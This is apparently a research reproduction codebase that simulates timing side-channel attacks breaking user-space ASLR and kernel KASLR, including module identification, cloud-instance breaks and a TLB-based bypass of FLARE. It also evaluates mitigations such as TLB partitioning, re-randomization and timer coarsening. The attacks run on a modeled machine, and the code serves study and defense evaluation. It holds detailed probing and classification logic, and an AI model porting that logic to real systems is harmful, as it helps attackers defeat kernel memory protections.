        region = DetectedRegion(start, pages, candidates)
        regions.append(region)
        if region.identified:
            identified[region.name] = start
        else:
            ambiguous.append(region)
    total_ms = core.clock.cycles_to_ms(
        core.clock.elapsed_since(total_start)
    )
    result = ModuleDetectionResult(
        regions, identified, ambiguous, probing_ms, total_ms,
        calibration.threshold,
    )

    total = len(machine.kernel.proc_modules())
    if total == 0:
        return {}, result, 1.0
    resolved = len(identified) + 0.5 * sum(
        1 for region in ambiguous if region.candidates
    )
    confidence = max(0.0, min(1.0, resolved / total))
    if not identified:
        return None, result, 0.0
    return dict(identified), result, confidence


def _run_windows(sup, rounds=None):
    """Windows 18-bit region scan."""
    from repro.attacks.windows_break import find_kernel_region
    from repro.os.windows.kernel import layout as win_layout

    machine = sup.machine
    if machine.os_family != "windows":
        raise AttackError("the windows attack needs a Windows machine")
    if rounds is None:
        rounds = machine.cpu.rounds_default
    calibration = sup.checked_calibration()
    result = find_kernel_region(
        machine, rounds=rounds, calibration=calibration, batched=sup.batched
    )
    sup.charge_probes(result.simulated_probes * rounds)
    sup.check_drift(calibration)
    if result.base is None:
        return None, result, 0.0
    run_len = len(result.region_slots)
    confidence = min(1.0, run_len / win_layout.KERNEL_IMAGE_2M_PAGES)
    return result.base, result, confidence


def _run_userspace(sup, rounds=2):
    """User-space code-base scan (single-probe load pass)."""
    from repro.attacks.userspace import find_user_code_base

    machine = sup.machine
    if machine.process is None:
        raise AttackError("the userspace attack needs a Linux process")
    result = find_user_code_base(
        machine, rounds=rounds, batched=sup.batched
    )
    sup.charge_probes(result.simulated_probes)
    if result.base is None:
        return None, result, 0.0
    # a believable scan shows few, compact mapped runs; a regime change
    # mid-scan sprays spurious runs across the sampled region
    runs = len(result.mapped_runs)
    confidence = 0.9 if runs <= 8 else max(0.2, 0.9 - 0.05 * (runs - 8))
    return result.base, result, confidence


def _run_cloud(sup, detect_kernel_modules=True):
    """Per-provider cloud audit (base break + module detection)."""
    from repro.attacks.cloud_break import audit_cloud

    machine = sup.machine
    if machine.instance is None:
        raise AttackError(
            "the cloud attack needs a machine built by Machine.cloud()"
        )
    generation = sup._layout_generation()
    result = audit_cloud(
        machine.instance.provider, machine=machine,
        detect_kernel_modules=detect_kernel_modules, batched=sup.batched,
    )
    sup.charge_probes(layout.KERNEL_TEXT_SLOTS
                      * machine.cpu.rounds_default)
    sup._check_layout_stable(generation)
    if result.base is None:
        return None, result, 0.0
    confidence = 0.85
    if result.modules_identified:
        confidence = min(1.0, confidence + 0.05 * result.modules_identified)
    return result.base, result, confidence


def _run_sgx(sup, rounds=2, identify=True):
    """In-enclave host-process derandomization."""
    from repro.attacks.sgx_break import break_aslr_from_enclave

    machine = sup.machine
    if machine.enclave is None:
        machine.create_enclave()
    result = break_aslr_from_enclave(
        machine, rounds=rounds, identify=identify
    )
    # the scans probe a representative sample, not the whole 28-bit
    # region; charge the sampled count (load + store passes)
    sup.charge_probes(2 * 4096 * rounds)
    if result.code_base is None:
        return None, result, 0.0
    confidence = 0.85
    if identify and result.libraries is not None \
            and result.libraries.matches:
        confidence = min(1.0, confidence
                         + 0.05 * len(result.libraries.matches))
    return result.code_base, result, confidence


def _run_fingerprint(sup, workload="video-call", intervals=24,
                     profiles=None):
    """Application fingerprinting over sentinel-module TLB states."""
    from repro.attacks.fingerprint import ApplicationFingerprinter
    from repro.workloads.apps import APP_CATALOG, ApplicationWorkload

    machine = sup.machine
    if profiles is None:
        profiles = list(APP_CATALOG.values())
    else:
        profiles = [
            APP_CATALOG[p] if isinstance(p, str) else p for p in profiles
        ]
    if isinstance(workload, str):
        workload = ApplicationWorkload(
            workload, seed=int(machine.rng.integers(1 << 31))
        )
    # locate the sentinels through the canary-tracked module scan -- the
    # raw detect_modules inside the spy would misattribute sizes under a
    # mid-scan regime change
    from repro.workloads.apps import SENTINEL_MODULES

    addresses, __, __ = _run_modules(sup)
    if not addresses:
        raise CalibrationError("module scan identified nothing this attempt")
    missing = [s for s in SENTINEL_MODULES if s not in addresses]
    if missing:
        raise CalibrationError(
            "sentinels not identifiable this attempt: {}".format(
                ", ".join(missing)
            )
        )
    spy = ApplicationFingerprinter(
        machine, batched=sup.batched,
        module_addresses={s: addresses[s] for s in SENTINEL_MODULES},
    )
    guess, observation, ranking = spy.identify(
        workload, profiles, intervals=intervals
    )
    sup.charge_probes(intervals * len(spy.sentinels))
    if len(ranking) > 1:
        best, runner_up = ranking[0][1], ranking[1][1]
        spread = runner_up - best
        confidence = max(0.0, min(1.0, spread / (runner_up + 1e-9)))
    else:
        confidence = 1.0
    return guess, (observation, ranking), confidence


_RUNNERS = {
    "kaslr": _run_kaslr,
    "kpti": lambda sup, **kw: _run_kaslr(sup, variant="kpti", **kw),
    "modules": _run_modules,
    "windows": _run_windows,
    "userspace": _run_userspace,
    "cloud": _run_cloud,
    "sgx": _run_sgx,
    "fingerprint": _run_fingerprint,
}

#: the attacks the supervisor knows how to wrap
SUPERVISED_ATTACKS = tuple(sorted(_RUNNERS))


def supervise(machine, attack, max_retries=3, probe_budget=None,
              time_budget_ms=None, batched=True, **kwargs):
    """One-call convenience: build a supervisor and run one attack."""
    supervisor = AttackSupervisor(
        machine, max_retries=max_retries, probe_budget=probe_budget,
        time_budget_ms=time_budget_ms, batched=batched,
    )
    return supervisor.run(attack, **kwargs)
