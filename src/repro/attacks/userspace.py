"""User-space ASLR breaks (paper Section IV-F, Figure 7).

Two attacks:

* **Code-base scan** -- linearly probe the 28-bit / 4 KiB-grain region the
  executable can live in.  User pages need only a *single* probe per
  address: a mapped user page takes no microcode assist (fast) while an
  unmapped one assists and walks (slow), so one access separates them.
* **Library identification** -- the two-pass load+store probe of the
  mmap region recovers a per-page permission map (``r`` / ``rw`` / ``---``)
  and matches the section-size signatures of known libraries (r-x, ---,
  r--, rw- section orders).

Simulation note: the full code-base scan covers 2^28 addresses, far more
than a Python interpreter can usefully simulate one by one.  The scan
therefore simulates a *representative sample* -- every address around the
populated windows plus a uniform background -- and extrapolates the total
runtime from the measured per-probe cost times the true probe count.  The
classification logic itself runs on honestly simulated timings only.
"""

from repro.attacks.primitives import PermissionAttack
from repro.mmu.address import PAGE_SIZE
from repro.os.linux import layout
from repro.os.linux.libraries import LIBRARY_CATALOG


class UserScanResult:
    """Outcome of a code-base scan."""

    __slots__ = (
        "base",
        "mapped_runs",
        "simulated_probes",
        "full_probe_count",
        "probing_seconds",
        "per_probe_cycles",
        "mode",
    )

    def __init__(self, base, mapped_runs, simulated_probes, full_probe_count,
                 probing_seconds, per_probe_cycles, mode):
        self.base = base
        self.mapped_runs = mapped_runs
        self.simulated_probes = simulated_probes
        self.full_probe_count = full_probe_count
        self.probing_seconds = probing_seconds
        self.per_probe_cycles = per_probe_cycles
        self.mode = mode

    def __repr__(self):
        return "UserScanResult(base={}, {:.1f}s {} scan)".format(
            hex(self.base) if self.base else None,
            self.probing_seconds, self.mode,
        )


def _calibrate_unmapped_boundary(machine, samples=200, use_store=False,
                                 batched=False, engine=None):
    """Self-calibrate against the attacker's own unmapped guard page."""
    core = machine.core
    if batched:
        values = sorted(
            core.probe_sweep(
                [machine.playground.unmapped], rounds=samples,
                op="store" if use_store else "load", warm=False, reduce=None,
                engine=engine,
            )[0]
        )
    else:
        probe = (
            core.timed_masked_store if use_store else core.timed_masked_load
        )
        core.chaos_poll()
        values = sorted(
            probe(machine.playground.unmapped) for _ in range(samples)
        )
    median = values[len(values) // 2]
    return median - 12


def _sample_addresses(machine, region_start, region_pages, window_pages,
                      background_samples):
    """Probe set: windows around populated areas + uniform background."""
    region_end = region_start + region_pages * PAGE_SIZE
    sampled = set()
    for region in machine.process.all_regions():
        if region.end <= region_start or region.start >= region_end:
            continue
        lo = max(region_start, region.start - window_pages * PAGE_SIZE)
        hi = min(region_end, region.end + window_pages * PAGE_SIZE)
        va = lo
        while va < hi:
            sampled.add(va)
            va += PAGE_SIZE
    stride = max(1, region_pages // background_samples)
    for index in range(0, region_pages, stride):
        sampled.add(region_start + index * PAGE_SIZE)
    return sorted(sampled)


def _runs_of(addresses):
    """Group sorted page addresses into contiguous (first, last) runs."""
    runs = []
    for va in addresses:
        if runs and va == runs[-1][1] + PAGE_SIZE:
            runs[-1] = (runs[-1][0], va)
        else:
            runs.append((va, va))
    return runs


def _region_scan(machine, classify, probe, rounds, window_pages,
                 background_samples, mode, region_start=None,
                 region_pages=None, batched_op=None, engine=None):
    """Shared scan loop: probe the sample set, classify, extrapolate.

    ``batched_op`` ("load"/"store") switches the whole sample set onto
    the batched engine's single-probe path instead of calling ``probe``
    per address.
    """
    core = machine.core
    if region_start is None:
        region_start = layout.USER_TEXT_REGION
    if region_pages is None:
        region_pages = 1 << layout.USER_ASLR_BITS
    addresses = _sample_addresses(
        machine, region_start, region_pages, window_pages, background_samples
    )

    probe_start = core.clock.cycles
    if batched_op is not None:
        best_of = core.probe_sweep(
            addresses, rounds=rounds, op=batched_op, warm=False, reduce="min",
            engine=engine,
        )
        positives = [
            va for va, best in zip(addresses, best_of) if classify(best)
        ]
    else:
        positives = []
        for va in addresses:
            core.chaos_poll()
            best = min(probe(va) for _ in range(rounds))
            if classify(best):
                positives.append(va)
    elapsed = core.clock.elapsed_since(probe_start)
    per_probe = elapsed / (len(addresses) * rounds)

    runs = _runs_of(positives)
    full_count = region_pages * rounds
    probing_seconds = core.clock.cycles_to_seconds(
        int(per_probe * full_count)
    )
    return UserScanResult(
        runs[0][0] if runs else None, runs, len(addresses) * rounds,
        full_count, probing_seconds, per_probe, mode,
    )


def find_user_code_base(machine, rounds=2, window_pages=64,
                        background_samples=2048, batched=False, engine=None):
    """Scan the 0x55XXXXXXX000 region for the executable's base (P2).

    A single masked-load probe per page suffices here: a mapped *user*
    page takes no microcode assist while an unmapped one assists and
    walks.  Read-write data pages need the store pass
    (:func:`scan_rw_pages`) -- the paper's two-pass combination.
    """
    core = machine.core
    boundary = _calibrate_unmapped_boundary(machine, use_store=False,
                                            batched=batched, engine=engine)
    return _region_scan(
        machine, lambda t: t <= boundary, core.timed_masked_load, rounds,
        window_pages, background_samples, mode="load",
        batched_op="load" if batched else None, engine=engine,
    )


def scan_rw_pages(machine, rounds=2, window_pages=64,
                  background_samples=2048, batched=False, engine=None):
    """The paper's second (masked-store) pass: find written data pages.

    A store on a dirty writable page retires with no assist at all -- far
    below every other mode -- so one boundary flags the read-write pages
    the load pass cannot see (Section IV-F's "probed again using the
    masked store to identify the read-write pages").
    """
    core = machine.core
    cpu = machine.cpu
    fast_store = cpu.store_base + cpu.tlb_hit_l1
    ro_store = fast_store + cpu.assist_store
    boundary = cpu.measurement_overhead + (fast_store + ro_store) / 2
    return _region_scan(
        machine, lambda t: t <= boundary, core.timed_masked_store, rounds,
        window_pages, background_samples, mode="store-rw",
        batched_op="store" if batched else None, engine=engine,
    )


class LibraryMatch:
    """One identified library instance."""

    __slots__ = ("name", "base", "runs")

    def __init__(self, name, base, runs):
        self.name = name
        self.base = base
        self.runs = runs

    def __repr__(self):
        return "LibraryMatch({!r} @ {:#x})".format(self.name, self.base)


class LibraryIdentification:
    """Outcome of the fine-grained library scan."""

    __slots__ = ("permission_map", "matches", "extra_pages", "window")

    def __init__(self, permission_map, matches, extra_pages, window):
        self.permission_map = permission_map
        self.matches = matches
        self.extra_pages = extra_pages
        self.window = window

    def base_of(self, name):
        for match in self.matches:
            if match.name == name:
                return match.base
        return None


def _observable_signature(image):
    """(run page-perms pattern) list as the load+store probes can see it.

    Each mapped run becomes a tuple of (perm_class, pages) with r-x/r--
    collapsed to 'r' (Figure 3: loads and stores cannot split them).
    """
    runs = []
    current = []
    for section in image.sections:
        if section.perms == "---":
            if current:
                runs.append(tuple(current))
                current = []
            continue
        perm_class = "rw" if section.perms == "rw-" else "r"
        if current and current[-1][0] == perm_class:
            current[-1] = (perm_class, current[-1][1] + section.pages)
        else:
            current.append((perm_class, section.pages))
        current = [tuple(c) for c in current]
    if current:
        runs.append(tuple(current))
    return tuple(runs)


def _detected_runs(permission_map):
    """Collapse the per-page map into mapped runs of (perm, pages) groups."""
    runs = []
    current = []
    run_base = None
    prev_va = None
    for va in sorted(permission_map):
        perm = permission_map[va]
        broken = prev_va is not None and va != prev_va + PAGE_SIZE
        if perm == "---" or broken:
            if current:
                runs.append((run_base, tuple(current)))
                current = []
                run_base = None
            if broken and perm != "---":
                pass
        if perm != "---":
            if not current:
                run_base = va
                current = [(perm, 1)]
            elif current[-1][0] == perm:
                current[-1] = (perm, current[-1][1] + 1)
            else:
                current.append((perm, 1))
        prev_va = va
    if current:
        runs.append((run_base, tuple(current)))
    return runs


def identify_libraries(machine, rounds=None, margin_pages=8,
                       catalog=None):
    """Two-pass permission scan of the library region + signature match."""
    if catalog is None:
        catalog = LIBRARY_CATALOG
    attack = PermissionAttack(machine, rounds=rounds)

    # scan window: the populated part of the 0x7f region (the full-range
    # version is the extrapolated scan of find_user_code_base)
    lib_regions = [
        r for r in machine.process.all_regions()
        if r.start >= layout.USER_MMAP_REGION
    ]
    lo = min(r.start for r in lib_regions) - margin_pages * PAGE_SIZE
    hi = max(r.end for r in lib_regions) + margin_pages * PAGE_SIZE

    permission_map = {}
    va = lo
    while va < hi:
        permission_map[va] = attack.classify(va)
        va += PAGE_SIZE

    runs = _detected_runs(permission_map)

    # signature matching: a library is a consecutive sub-sequence of runs
    signatures = {
        name: _observable_signature(image)
        for name, image in catalog.items()
    }
    matches = []
    used = set()
    for name, signature in signatures.items():
        length = len(signature)
        for start in range(len(runs) - length + 1):
            if any((start + k) in used for k in range(length)):
                continue
            window = runs[start : start + length]
            if tuple(groups for __, groups in window) == signature:
                matches.append(LibraryMatch(name, window[0][0], window))
                used.update(range(start, start + length))
                break

    # pages the probe found that /proc/PID/maps does not report
    visible = set()
    for region in machine.process.maps():
        if region.perms == "---":
            continue
        for i in range(region.pages):
            visible.add(region.start + i * PAGE_SIZE)
    extra = [
        va for va, perm in sorted(permission_map.items())
        if perm != "---" and va not in visible
    ]
    return LibraryIdentification(permission_map, matches, extra, (lo, hi))
