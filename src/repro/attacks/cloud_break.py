"""End-to-end KASLR breaks on cloud instances (paper Section IV-H).

* **Amazon EC2** (Xeon E5-2676, Meltdown-vulnerable): the kernel runs
  KPTI, so the attack locates the trampoline (offset 0xe00000 on the AWS
  kernel) and derives the base; modules are detected as usual.
* **Google GCE** (Cascade Lake, hardware-fixed): plain P2 double-probe
  break plus module detection.
* **Microsoft Azure** (Xeon 8171M, Windows 10 21H2): the 18-bit region
  scan.
"""

from repro.attacks.kaslr_break import break_kaslr_intel
from repro.attacks.kpti_break import break_kaslr_kpti
from repro.attacks.module_detect import detect_modules
from repro.attacks.windows_break import find_kernel_region
from repro.machine import Machine


class CloudBreakResult:
    """Per-provider outcome."""

    __slots__ = (
        "provider",
        "base",
        "base_correct",
        "base_ms",
        "modules_ms",
        "modules_identified",
        "derandomized_bits",
        "method",
    )

    def __init__(self, provider, base, base_correct, base_ms, modules_ms,
                 modules_identified, derandomized_bits, method):
        self.provider = provider
        self.base = base
        self.base_correct = base_correct
        self.base_ms = base_ms
        self.modules_ms = modules_ms
        self.modules_identified = modules_identified
        self.derandomized_bits = derandomized_bits
        self.method = method

    def __repr__(self):
        return "CloudBreakResult({!r}, base={}, {:.2f} ms)".format(
            self.provider, hex(self.base) if self.base else None,
            self.base_ms,
        )


def audit_cloud(provider, seed=0, machine=None, detect_kernel_modules=True,
                batched=False, engine=None):
    """Run the paper's attack suite against one cloud instance."""
    if machine is None:
        machine = Machine.cloud(provider, seed=seed)
    instance = machine.instance

    if instance.os_family == "windows":
        result = find_kernel_region(machine, batched=batched,
                                    engine=engine)
        return CloudBreakResult(
            provider=instance.provider,
            base=result.base,
            base_correct=result.base == machine.kernel.base,
            base_ms=result.probing_seconds * 1e3,
            modules_ms=None,
            modules_identified=None,
            derandomized_bits=result.derandomized_bits,
            method=result.method,
        )

    if instance.kpti:
        base_result = break_kaslr_kpti(machine, batched=batched,
                                       engine=engine)
    else:
        base_result = break_kaslr_intel(machine, batched=batched,
                                        engine=engine)

    modules_ms = None
    identified = None
    if detect_kernel_modules:
        module_result = detect_modules(machine, batched=batched,
                                       engine=engine)
        modules_ms = module_result.probing_ms
        identified = len(module_result.identified)

    return CloudBreakResult(
        provider=instance.provider,
        base=base_result.base,
        base_correct=base_result.base == machine.kernel.base,
        base_ms=base_result.probing_ms,
        modules_ms=modules_ms,
        modules_identified=identified,
        derandomized_bits=9,
        method=base_result.method,
    )
