"""Kernel-module detection and identification (Section IV-C, Figure 5).

Modules load 4 KiB-aligned into a 64 MiB window (16384 probe slots) and
consecutive modules are separated by unmapped guard pages.  The attack:

1. double-probe every slot (P2) and classify mapped/unmapped,
2. split the mapped bitmap into maximal runs -- each run is one module,
3. correlate each run's page count with the sizes /proc/modules reports
   (names and sizes are world-readable; addresses are not).

A module whose page count is unique among loaded modules is identified
exactly; modules sharing a footprint (the paper's autofs4 / x_tables pair)
remain ambiguous.
"""

from repro.attacks.calibrate import calibrate_store_threshold
from repro.attacks.primitives import double_probe_load
from repro.mmu.address import PAGE_SIZE
from repro.os.linux import layout


class DetectedRegion:
    """One contiguous mapped run in the module window."""

    __slots__ = ("start", "pages", "candidates")

    def __init__(self, start, pages, candidates=()):
        self.start = start
        self.pages = pages
        self.candidates = tuple(candidates)

    @property
    def identified(self):
        return len(self.candidates) == 1

    @property
    def name(self):
        return self.candidates[0] if self.identified else None

    def __repr__(self):
        return "DetectedRegion({:#x}, {} pages, {})".format(
            self.start, self.pages, self.candidates or "?"
        )


class ModuleDetectionResult:
    """Outcome of one module-detection run."""

    __slots__ = (
        "regions",
        "identified",
        "ambiguous",
        "probing_ms",
        "total_ms",
        "threshold",
    )

    def __init__(self, regions, identified, ambiguous, probing_ms, total_ms,
                 threshold):
        self.regions = regions
        self.identified = identified
        self.ambiguous = ambiguous
        self.probing_ms = probing_ms
        self.total_ms = total_ms
        self.threshold = threshold

    def address_of(self, name):
        """Recovered load address of an identified module (or None)."""
        return self.identified.get(name)

    def __repr__(self):
        return (
            "ModuleDetectionResult({} regions, {} identified, "
            "{:.2f} ms)".format(
                len(self.regions), len(self.identified), self.total_ms
            )
        )


def _runs_from_bitmap(mapped_flags, start_va):
    """Collapse a per-slot mapped bitmap into (start, pages) runs."""
    runs = []
    run_start = None
    for index, mapped in enumerate(mapped_flags):
        if mapped and run_start is None:
            run_start = index
        elif not mapped and run_start is not None:
            runs.append((start_va + run_start * PAGE_SIZE, index - run_start))
            run_start = None
    if run_start is not None:
        runs.append(
            (start_va + run_start * PAGE_SIZE,
             len(mapped_flags) - run_start)
        )
    return runs


def detect_modules(machine, rounds=None, calibration=None,
                   max_slots=layout.MODULE_SLOTS, batched=False,
                   engine=None):
    """Run the full module detection + size classification attack.

    ``max_slots`` restricts the scan (the full window is 16384 slots);
    the default probes everything, like the paper.  ``batched=True``
    routes the scan through the batched probe engine.
    """
    core = machine.core
    if rounds is None:
        rounds = machine.cpu.rounds_default

    total_start = core.clock.cycles
    core.run_setup()
    if calibration is None:
        calibration = calibrate_store_threshold(machine, batched=batched,
                                                engine=engine)

    probe_start = core.clock.cycles
    if batched:
        vas = [
            layout.MODULE_START + slot * PAGE_SIZE
            for slot in range(max_slots)
        ]
        # min-filtered: a single spike must not split a module in two
        timings = core.probe_sweep(vas, rounds=rounds, op="load",
                                   reduce="min", engine=engine)
        mapped_flags = [calibration.classify_mapped(t) for t in timings]
    else:
        mapped_flags = []
        for slot in range(max_slots):
            va = layout.MODULE_START + slot * PAGE_SIZE
            # min-filtered: a single spike must not split a module in two
            timing = double_probe_load(core, va, rounds, take_min=True)
            mapped_flags.append(calibration.classify_mapped(timing))
    probing_ms = core.clock.cycles_to_ms(
        core.clock.elapsed_since(probe_start)
    )

    runs = _runs_from_bitmap(mapped_flags, layout.MODULE_START)

    # size correlation against /proc/modules
    size_to_names = {}
    for name, size_bytes in machine.kernel.proc_modules():
        pages = -(-size_bytes // PAGE_SIZE)
        size_to_names.setdefault(pages, []).append(name)

    regions = []
    identified = {}
    ambiguous = []
    for start, pages in runs:
        candidates = size_to_names.get(pages, [])
        region = DetectedRegion(start, pages, candidates)
        regions.append(region)
        if region.identified:
            identified[region.name] = start
        else:
            ambiguous.append(region)

    total_ms = core.clock.cycles_to_ms(core.clock.elapsed_since(total_start))
    return ModuleDetectionResult(
        regions, identified, ambiguous, probing_ms, total_ms,
        calibration.threshold,
    )


def region_accuracy(result, kernel):
    """Fraction of ground-truth modules whose run was recovered exactly.

    A module counts as correct when some detected region matches its true
    (start, pages) pair -- the per-module notion behind Table I's module
    accuracy column.
    """
    truth = kernel.module_map
    detected = {(r.start, r.pages) for r in result.regions}
    correct = sum(
        1 for start, pages in truth.values() if (start, pages) in detected
    )
    return correct / len(truth) if truth else 1.0
