"""Hardware TLB partitioning (paper Section V-B).

Splitting TLB sets between user and kernel space stops the TLB attack:
user-mode probes can neither hit nor fill kernel translations.  In this
model that is exactly what the AMD behavioural flag already expresses
(``fills_tlb_for_supervisor_user_probe = False``), so the evaluation
builds an Intel-like part with the flag cleared and shows:

* the P2 double-probe break fails (mapped and unmapped kernel pages both
  walk on every probe),
* the P3 walk-level signal *survives* unless the part also hides walk
  depth -- matching the paper's note that partitioning alone is not a
  complete nor practical fix.
"""

import copy

from repro.attacks.kaslr_break import break_kaslr_amd, break_kaslr_intel
from repro.cpu.models import get_cpu_model
from repro.machine import Machine


class PartitionEvaluation:
    """Outcome of attacking a TLB-partitioned part."""

    __slots__ = ("p2_correct", "p3_correct", "cpu_name")

    def __init__(self, p2_correct, p3_correct, cpu_name):
        self.p2_correct = p2_correct
        self.p3_correct = p3_correct
        self.cpu_name = cpu_name

    def __repr__(self):
        return "PartitionEvaluation(P2 correct={}, P3 correct={})".format(
            self.p2_correct, self.p3_correct
        )


def partitioned_variant(cpu_key="i5-12400F"):
    """An Intel part with user/kernel TLB partitioning retrofitted."""
    cpu = copy.copy(get_cpu_model(cpu_key))
    cpu.name = cpu.name + " (partitioned TLB)"
    cpu.fills_tlb_for_supervisor_user_probe = False
    return cpu


def evaluate_tlb_partitioning(cpu_key="i5-12400F", seed=0):
    """Mount P2 and P3 breaks against the partitioned variant."""
    cpu = partitioned_variant(cpu_key)

    machine = Machine.linux(cpu=cpu, seed=seed)
    p2 = break_kaslr_intel(machine)
    p2_correct = p2.base == machine.kernel.base

    # Intel's per-level step is small (2 cycles), so the walk-depth signal
    # needs heavy averaging -- slower, but the entropy still falls.
    machine = Machine.linux(cpu=cpu, seed=seed)
    p3 = break_kaslr_amd(machine, rounds=48)
    p3_correct = p3.base == machine.kernel.base

    return PartitionEvaluation(p2_correct, p3_correct, cpu.name)
