"""Continuous re-randomization (Shuffler-style) vs the AVX attack.

The paper's conclusion recommends re-randomization as an effective
mitigation.  The model: the defense re-randomizes the layout every
``period_ms``; an attack succeeds only if the base it recovered is still
current when it is *used* (probe time + weaponization delay fit inside one
period, with the phase drawn uniformly).
"""

import numpy as np

from repro.attacks.kaslr_break import break_kaslr_intel
from repro.machine import Machine


class RerandomizationOutcome:
    """Aggregate over trials."""

    __slots__ = ("period_ms", "attack_ms", "use_delay_ms", "success_rate",
                 "trials")

    def __init__(self, period_ms, attack_ms, use_delay_ms, success_rate,
                 trials):
        self.period_ms = period_ms
        self.attack_ms = attack_ms
        self.use_delay_ms = use_delay_ms
        self.success_rate = success_rate
        self.trials = trials

    def __repr__(self):
        return (
            "RerandomizationOutcome(period={} ms -> success {:.1%})"
            .format(self.period_ms, self.success_rate)
        )


def measure_attack_time(cpu="i5-12400F", seed=0):
    """One end-to-end KASLR break, returning (total_ms, correct)."""
    machine = Machine.linux(cpu=cpu, seed=seed)
    result = break_kaslr_intel(machine)
    return result.total_ms, result.base == machine.kernel.base


def evaluate_rerandomization(period_ms, cpu="i5-12400F", use_delay_ms=1.0,
                             trials=200, seed=0):
    """Success probability of the attack under a given re-rand period.

    The attack must start after a re-randomization and finish (including
    the delay until the leaked base is used for the code-reuse payload)
    before the next one; the attack's phase within the period is uniform.
    """
    attack_ms, correct = measure_attack_time(cpu=cpu, seed=seed)
    if not correct:
        attack_ms = float("inf")

    rng = np.random.default_rng(seed)
    window_ms = attack_ms + use_delay_ms
    successes = 0
    for _ in range(trials):
        phase = rng.uniform(0, period_ms)
        if phase + window_ms <= period_ms:
            successes += 1
    return RerandomizationOutcome(
        period_ms, attack_ms, use_delay_ms, successes / trials, trials
    )


def period_sweep(periods_ms, cpu="i5-12400F", use_delay_ms=1.0, trials=200,
                 seed=0):
    """Sweep re-randomization periods; returns outcome per period."""
    return [
        evaluate_rerandomization(
            p, cpu=cpu, use_delay_ms=use_delay_ms, trials=trials, seed=seed
        )
        for p in periods_ms
    ]
