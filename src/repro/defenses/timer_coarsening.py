"""Timer coarsening as a mitigation (the SGX angle, inverted).

Section IV-F notes the in-enclave attack needs the high-precision
RDTSC/RDTSCP that SGX2 provides -- i.e. the channel's bandwidth is
bounded by timer resolution.  This module turns that observation into a
defense evaluation: degrade the attacker's timer to R-cycle granularity
and measure when each attack dies.

Expected shape: both the P2 break and the single-probe TLB break read a
~14-cycle gap (TLB hit vs warm walk), so they survive while R stays
below the gap's scale and collapse once one rounding bucket swallows
both modes -- confirming the paper's observation from the defender's
side: without a high-precision timer (SGX2's RDTSC), the channel closes.
"""

from repro.attacks.kaslr_break import break_kaslr_intel
from repro.machine import Machine


class CoarseningOutcome:
    """Attack success per timer resolution."""

    __slots__ = ("results", "gap_cycles")

    def __init__(self, results, gap_cycles):
        self.results = results  # {resolution: success_rate}
        self.gap_cycles = gap_cycles

    def finest_defeated(self):
        """The smallest resolution at which the attack drops below 50%."""
        for resolution in sorted(self.results):
            if self.results[resolution] < 0.5:
                return resolution
        return None

    def __repr__(self):
        return "CoarseningOutcome({})".format(self.results)


def evaluate_timer_coarsening(resolutions=(1, 4, 8, 16, 32, 64, 128),
                              trials=6, cpu="i5-12400F", seed0=0):
    """Sweep timer resolutions against the P2 kernel-base break."""
    cpu_key = cpu
    results = {}
    seed = seed0
    for resolution in resolutions:
        wins = 0
        for _ in range(trials):
            machine = Machine.linux(cpu=cpu_key, seed=seed)
            machine.core.timer_resolution = resolution
            result = break_kaslr_intel(machine)
            wins += result.base == machine.kernel.base
            seed += 1
        results[resolution] = wins / trials
    probe_gap = 107 - 93  # the P2 signal on the default part
    return CoarseningOutcome(results, probe_gap)


def evaluate_tlb_attack_coarsening(resolutions=(1, 16, 64, 128, 256),
                                   trials=4, seed0=100):
    """The same sweep against the TLB attack's much larger gap (P4)."""
    from repro.defenses.flare import tlb_kaslr_break

    results = {}
    seed = seed0
    for resolution in resolutions:
        wins = 0
        for _ in range(trials):
            machine = Machine.linux(seed=seed)
            machine.core.timer_resolution = resolution
            cpu = machine.cpu
            # the attacker knows its own timer's granularity and shifts
            # the boundary half a bucket down to compensate the flooring
            threshold = (
                cpu.expected_kernel_mapped_load_tlb_hit()
                + cpu.measurement_overhead + 8 - resolution / 2
            )
            base, __ = tlb_kaslr_break(machine, hit_threshold=threshold)
            wins += base == machine.kernel.base
            seed += 1
        results[resolution] = wins / trials
    return CoarseningOutcome(results, gap_cycles=14)
