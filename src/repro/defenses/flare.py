"""FLARE evaluation (paper Section V-A).

FLARE backs every unmapped kernel address with dummy physical pages, so
every page-table walk succeeds and the page-table attack (P2/P3) can no
longer tell the real image from the decoys.  The paper shows the TLB
attack (P4) still wins: dummy pages are never *executed* by the kernel, so
after an eviction + syscall prime only genuinely used kernel pages are TLB
hits.
"""

from repro.attacks.calibrate import calibrate_store_threshold
from repro.attacks.kaslr_break import break_kaslr_intel
from repro.os.linux import layout


class FlareEvaluation:
    """How each primitive fares against FLARE."""

    __slots__ = (
        "page_table_base",
        "page_table_defeated",
        "tlb_base",
        "tlb_correct",
        "hot_slots",
        "mapped_fraction",
    )

    def __init__(self, page_table_base, page_table_defeated, tlb_base,
                 tlb_correct, hot_slots, mapped_fraction):
        self.page_table_base = page_table_base
        self.page_table_defeated = page_table_defeated
        self.tlb_base = tlb_base
        self.tlb_correct = tlb_correct
        self.hot_slots = hot_slots
        self.mapped_fraction = mapped_fraction

    def __repr__(self):
        return (
            "FlareEvaluation(page-table defeated={}, TLB correct={})"
            .format(self.page_table_defeated, self.tlb_correct)
        )


def tlb_kaslr_break(machine, syscall_burst=6, hit_threshold=None,
                    chunk_slots=16):
    """The TLB-based KASLR break that bypasses FLARE.

    Evict, run a burst of syscalls (the kernel touches its entry stub and
    handlers), then single-probe the slots: hits reveal the slots of
    genuinely executed kernel text.  Probing itself fills TLB entries, so
    the scan runs in small chunks, re-priming before each -- otherwise the
    victim's entries would be self-evicted before being measured.
    """
    core = machine.core
    kernel = machine.kernel
    cpu = machine.cpu
    if hit_threshold is None:
        hit_threshold = (
            cpu.expected_kernel_mapped_load_tlb_hit()
            + cpu.measurement_overhead + 8
        )

    hot_slots = []
    for first in range(0, layout.KERNEL_TEXT_SLOTS, chunk_slots):
        core.evict_translation_caches()
        for i in range(syscall_burst):
            kernel.syscall(
                core, list(kernel.functions)[i % len(kernel.functions)]
            )
        for slot in range(
            first, min(first + chunk_slots, layout.KERNEL_TEXT_SLOTS)
        ):
            va = layout.kernel_base_of_slot(slot)
            if core.timed_masked_load(va) <= hit_threshold:
                hot_slots.append(slot)
    base = layout.kernel_base_of_slot(hot_slots[0]) if hot_slots else None
    return base, hot_slots


def evaluate_flare(machine):
    """Mount both primitives against a FLARE-enabled kernel."""
    if not machine.kernel.flare:
        raise ValueError("evaluate_flare expects a FLARE-enabled machine")

    # 1. the page-table attack sees everything mapped
    pt_result = break_kaslr_intel(machine)
    mapped_fraction = len(pt_result.mapped_slots) / layout.KERNEL_TEXT_SLOTS
    pt_defeated = (
